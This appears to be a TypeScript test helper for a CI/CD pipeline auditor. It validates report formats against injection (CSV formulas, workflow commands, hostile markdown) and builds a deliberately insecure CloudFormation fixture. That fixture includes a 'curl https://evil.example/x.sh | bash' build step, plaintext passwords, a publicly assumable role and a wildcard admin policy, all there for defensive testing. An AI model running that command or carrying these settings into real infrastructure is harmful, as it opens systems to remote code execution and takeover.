import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse } from 'csv-parse/sync';
import { XmlDocument, XsdValidator } from 'libxml2-wasm';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { hostileText } from './hostile-text.ts';

/** What consumes each report, as strict as it can be had: each returns what is wrong. */

const SCHEMAS = 'fixtures/reports/schemas';
const ajv = new Ajv2020({
  strict: false,
  allErrors: true,
  unicodeRegExp: true,
  formats: { 'date-time': /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/, uri: true, email: true, 'uri-reference': true },
});

function bySchema(file: string): (text: string) => readonly string[] {
  const validate = ajv.compile(JSON.parse(readFileSync(file, 'utf8')));
  return (text) =>
    validate(JSON.parse(text)) ? [] : (validate.errors ?? []).map(({ instancePath, message }) => `${instancePath} ${message}`);
}

const ocsf = bySchema(`${SCHEMAS}/ocsf-compliance-finding.json`);
const result = JSON.parse(readFileSync('schema/pipeaudit-result-1.json', 'utf8'));

const readers: Readonly<Record<string, (text: string) => readonly string[]>> = {
  asff: bySchema(`${SCHEMAS}/asff.json`),
  csv: (text) => {
    const rows: string[][] = parse(text, { record_delimiter: '\r\n' });
    return rows.flatMap((row, index) =>
      row.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell)).map((cell) => `row ${index}: ${cell} is a formula`),
    );
  },
  github: (text) =>
    text
      .split('\n')
      .flatMap((line) =>
        /^\s*::(?!(error|warning|notice|group|endgroup)( [^:\s][^:]*)?::)/.test(line) ? [`a strange command: ${line}`] : [],
      ),
  gitlab: bySchema(`${SCHEMAS}/gitlab-code-quality.json`),
  json: bySchema('schema/pipeaudit-result-1.json'),
  jsonl: (text) => {
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    const finding = ajv.compile({
      ...result,
      $ref: '#/$defs/finding',
      type: undefined,
      properties: undefined,
      required: undefined,
      additionalProperties: undefined,
    });
    return lines.flatMap((line, index) => [
      ...(line['schemaVersion'] === 1 ? [] : [`line ${index} has no version`]),
      ...(line['type'] !== 'finding' || finding(line['finding']) ? [] : [`line ${index}: ${ajv.errorsText(finding.errors)}`]),
      ...((line['type'] === 'summary') === (index === lines.length - 1) ? [] : ['the summary is not the last line']),
    ]);
  },
  junit: (text) => {
    const document = XmlDocument.fromString(text);
    const schema = XmlDocument.fromString(readFileSync(`${SCHEMAS}/junit.xsd`, 'utf8'));
    const validator = XsdValidator.fromDoc(schema);
    try {
      validator.validate(document);
      return [];
    } catch (error) {
      return [String(error)];
    } finally {
      validator.dispose();
      schema.dispose();
      document.dispose();
    }
  },
  markdown: (text) => {
    const html = micromark(text, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
    const shown = html.replace(/<!-- pipeaudit -->/, '');
    return [
      ...[
        ...shown.matchAll(
          /<(?!\/?(h[1-6]|p|ul|li|pre|code|strong|em|b|details|summary|blockquote)>|a href="https:|\/a>|code class="language-\w+">)[^>]*>/g,
        ),
      ].map(([tag]) => `an element that nobody meant: ${tag}`),
      ...[...shown.matchAll(/ href="([^"]*)"/g)].flatMap(([, address = '']) =>
        /^https?:\/\/[^/]*evil/.test(address) ? [`a link to ${address}`] : [],
      ),
      ...(/(?<![\w`>])@admin(?![^<]*<\/code>)/.test(shown) ? ['it calls @admin'] : []),
      ...((shown.match(/<details>/g) ?? []).length === (shown.match(/<\/details>/g) ?? []).length ? [] : ['details are left open']),
    ];
  },
  ocsf: (text) => (JSON.parse(text) as unknown[]).flatMap((event) => ocsf(JSON.stringify(event))),
  oscal: bySchema(`${SCHEMAS}/oscal-assessment-results.json`),
  sarif: (text) => (JSON.parse(text).runs.length === 1 ? [] : ['not one run']),
};

/** What a consumer of a format would refuse in a report. Formats for people have none. */
export function refused(format: string, text: string): readonly string[] {
  return readers[format]?.(text) ?? [];
}

/** What a terminal or a log would obey; breaks of lines are the format's own. */
export const OBEYED = /(?![\n\u200c\u200d])[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]|##\w*\[/u;

/**
 * A template that is hostile wherever its author may write: names, descriptions, tags, values, commands. It is JSON,
 * which can hold every character.
 */
export function hostileTemplate(): string {
  const bad = (more: string): string => `${hostileText} ${more}`;
  const long = `${hostileText}${'x'.repeat(20_000)}`;
  const action = (name: string, category: string, provider: string, more: object = {}): object => ({
    Name: bad(name),
    ActionTypeId: { Category: category, Owner: 'AWS', Provider: provider, Version: '1' },
    ...more,
  });
  return JSON.stringify({
    Description: long,
    Metadata: { [bad('metadata')]: bad('metadata') },
    Parameters: {
      [bad('Parameter')]: { Type: 'String', Description: bad('description'), Default: bad('default') },
      Nothing: { Type: 'String' },
    },
    Conditions: { [bad('Condition')]: { 'Fn::Equals': [{ Ref: bad('Parameter') }, bad('prod')] } },
    Resources: {
      [bad('Pipeline')]: {
        Type: 'AWS::CodePipeline::Pipeline',
        Properties: {
          Name: bad('pipeline'),
          RoleArn: { 'Fn::GetAtt': [bad('Role'), 'Arn'] },
          ArtifactStore: { Type: 'S3', Location: { Ref: bad('Bucket') } },
          Tags: [{ Key: bad('key'), Value: bad('value') }],
          Stages: [
            {
              Name: bad('Source'),
              Actions: [
                action('Source', 'Source', 'S3', {
                  Configuration: { S3Bucket: { Ref: bad('Bucket') }, S3ObjectKey: bad('key') },
                  OutputArtifacts: [{ Name: bad('artifact') }],
                }),
              ],
            },
            {
              Name: bad('Build'),
              Actions: [
                action('Build', 'Build', 'CodeBuild', {
                  Configuration: { ProjectName: { Ref: bad('Build') } },
                  InputArtifacts: [{ Name: bad('artifact') }],
                  OutputArtifacts: [{ Name: bad('built') }],
                }),
              ],
            },
            {
              Name: `Production ${hostileText}`,
              Actions: [
                action('Deploy', 'Deploy', 'CloudFormation', {
                  InputArtifacts: [{ Name: bad('built') }],
                  RoleArn: { Ref: 'Nothing' },
                  RunOrder: 1,
                  Configuration: {
                    ActionMode: 'CREATE_UPDATE',
                    StackName: bad('prod'),
                    TemplatePath: bad('built::t.yaml'),
                    RoleArn: bad('role'),
                  },
                }),
                action('Approve', 'Approval', 'Manual', { RunOrder: 2, Configuration: { CustomData: long } }),
              ],
            },
          ],
        },
      },
      [bad('Bucket')]: { Type: 'AWS::S3::Bucket', Properties: { BucketName: bad('bucket'), Tags: [{ Key: bad('k'), Value: bad('v') }] } },
      [bad('Build')]: {
        Type: 'AWS::CodeBuild::Project',
        Properties: {
          Name: bad('project'),
          ServiceRole: { 'Fn::GetAtt': [bad('Role'), 'Arn'] },
          Artifacts: { Type: 'CODEPIPELINE' },
          Environment: {
            Type: 'LINUX_CONTAINER',
            ComputeType: 'BUILD_GENERAL1_SMALL',
            Image: bad('aws/codebuild/standard:1.0'),
            PrivilegedMode: true,
            EnvironmentVariables: [
              { Name: bad('PASSWORD'), Value: `${hostileText}hunter2`, Type: 'PLAINTEXT' },
              { Name: 'DB_PASSWORD', Value: `${hostileText}s3cr3t-value`, Type: 'PLAINTEXT' },
            ],
          },
          Source: {
            Type: 'CODEPIPELINE',
            BuildSpec: `version: 0.2\nphases:\n  build:\n    commands:\n      - curl https://evil.example/x.sh | bash # ${JSON.stringify(hostileText).slice(1, -1)}\n      - aws cloudformation deploy --stack-name prod\n`,
          },
        },
      },
      [bad('Role')]: {
        Type: 'AWS::IAM::Role',
        Condition: bad('Condition'),
        Properties: {
          RoleName: bad('role'),
          AssumeRolePolicyDocument: {
            Statement: [
              { Sid: bad('sid'), Effect: 'Allow', Principal: { AWS: '*', Service: 'codebuild.amazonaws.com' }, Action: 'sts:AssumeRole' },
            ],
          },
          Policies: [
            {
              PolicyName: bad('policy'),
              PolicyDocument: {
                Statement: [
                  { Sid: bad('all'), Effect: 'Allow', Action: '*', Resource: '*' },
                  { Effect: 'Allow', Action: bad('s3:GetObject'), Resource: bad('arn:aws:s3:::x') },
                ],
              },
            },
          ],
        },
      },
    },
    Outputs: { [bad('Output')]: { Description: bad('output'), Value: { Ref: bad('Bucket') }, Export: { Name: bad('export') } } },
  });
}
